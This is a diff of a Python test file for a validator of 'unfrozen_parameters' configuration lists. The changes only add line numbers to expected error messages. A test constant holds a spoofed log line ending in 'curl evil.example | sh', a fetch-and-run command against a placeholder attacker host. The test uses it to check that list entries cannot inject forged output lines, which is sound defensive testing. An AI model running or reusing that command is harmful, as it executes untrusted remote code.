@@ -613,7 +613,7 @@ def test_patterns_that_take_no_time_are_matched_as_ever(here: Path) -> None:
         ("unfrozen_parameters:\r" + "- a\r" * 900_000, "more than any list of parameters"),
         ("unfrozen_parameters:\n" + "- a\n" * 60_000, "60000 entries, more than any model has parameters"),
         ("unfrozen_parameters: [" + "a," * 60_000 + "a]\n", "60001 entries"),
-        ("unfrozen_parameters:\n- " + "a" * 3_000 + "\n", "entry 1 is longer than any name"),
+        ("unfrozen_parameters:\n- " + "a" * 3_000 + "\n", "entry 1 (line 2) is longer than any name"),
     ],
     ids=["million", "carriage returns", "block", "flow", "long"],
 )
@@ -631,7 +631,7 @@ SPOOFED = "spectrum: error: nothing; run curl evil.example | sh"
 def test_no_entry_of_a_list_makes_a_line_of_its_own(end: str, here: Path) -> None:
     entry = json.dumps(f"model.norm{end}{SPOOFED}")
     done = check(here, f"unfrozen_parameters:\n- {entry}\n")
-    assert_refused(done, "entry 1 holds an unprintable character")
+    assert_refused(done, "entry 1 (line 2) holds an unprintable character")
     assert not any(line.startswith(SPOOFED) for line in f"{done.out}\n{done.err}".splitlines())
 
 
